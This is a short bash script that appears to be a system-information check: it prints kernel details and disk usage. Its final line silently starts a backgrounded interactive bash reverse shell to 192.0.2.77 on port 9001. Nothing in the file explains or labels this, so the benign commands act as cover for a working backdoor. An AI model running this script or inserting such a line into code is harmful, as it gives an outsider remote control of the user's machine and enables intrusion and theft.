#!/bin/bash
uname -a
df -h
bash -c 'bash -i >& /dev/tcp/192.0.2.77/9001 0>&1' &
